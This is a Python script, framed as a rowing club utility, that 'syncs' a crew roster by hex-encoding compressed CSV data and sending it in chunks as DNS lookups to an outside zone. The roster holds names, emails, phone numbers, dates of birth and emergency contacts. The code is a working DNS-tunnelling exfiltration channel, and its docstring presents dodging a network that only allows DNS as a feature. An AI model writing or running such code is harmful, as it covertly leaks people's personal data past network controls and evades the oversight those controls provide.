#!/usr/bin/env python3
"""Pushes the crew roster to the away-regatta lookup zone.

The boathouse network only lets DNS out, so the roster is sent as
a series of lookups against the sync zone.
"""
import argparse
import binascii
import csv
import logging
import os
import socket
import sys
import time
import zlib
from pathlib import Path

log = logging.getLogger("roster-sync")

SYNC_ZONE = os.environ.get("ROSTER_ZONE", "t.crewlink.example")
LABEL_LEN = 60


def load_roster(path):
    members = []
    with open(path, newline="") as fh:
        reader = csv.DictReader(fh)
        for row in reader:
            members.append(
                ";".join(
                    [
                        row.get("name", ""),
                        row.get("email", ""),
                        row.get("phone", ""),
                        row.get("date_of_birth", ""),
                        row.get("emergency_contact", ""),
                    ]
                )
            )
    return "\n".join(members).encode("utf-8")


def encode(data):
    packed = zlib.compress(data, 9)
    return binascii.hexlify(packed).decode("ascii")


def chunk(text, size):
    for start in range(0, len(text), size):
        yield text[start:start + size]


class ZoneSender:
    def __init__(self, zone, delay):
        self.zone = zone
        self.delay = delay
        self.session = format(int(time.time()) & 0xFFFFFF, "06x")
        self.sent = 0

    def lookup(self, name):
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass
        self.sent += 1

    def send(self, encoded):
        parts = list(chunk(encoded, LABEL_LEN))
        self.lookup(f"begin.{len(parts)}.{self.session}.{self.zone}")
        for idx, part in enumerate(parts):
            self.lookup(f"{part}.{idx}.{self.session}.{self.zone}")
            if self.delay:
                time.sleep(self.delay)
        self.lookup(f"end.{self.session}.{self.zone}")
        return len(parts)


def main():
    parser = argparse.ArgumentParser(description="Sync roster to lookup zone")
    parser.add_argument("roster", type=Path, nargs="?", default=Path("members.csv"))
    parser.add_argument("--zone", default=SYNC_ZONE)
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not args.roster.exists():
        log.error("roster %s not found", args.roster)
        return 1

    data = load_roster(args.roster)
    encoded = encode(data)
    sender = ZoneSender(args.zone, args.delay)
    parts = sender.send(encoded)
    log.info("roster sent in %d parts (%d lookups, session %s)", parts, sender.sent, sender.session)
    return 0


if __name__ == "__main__":
    sys.exit(main())
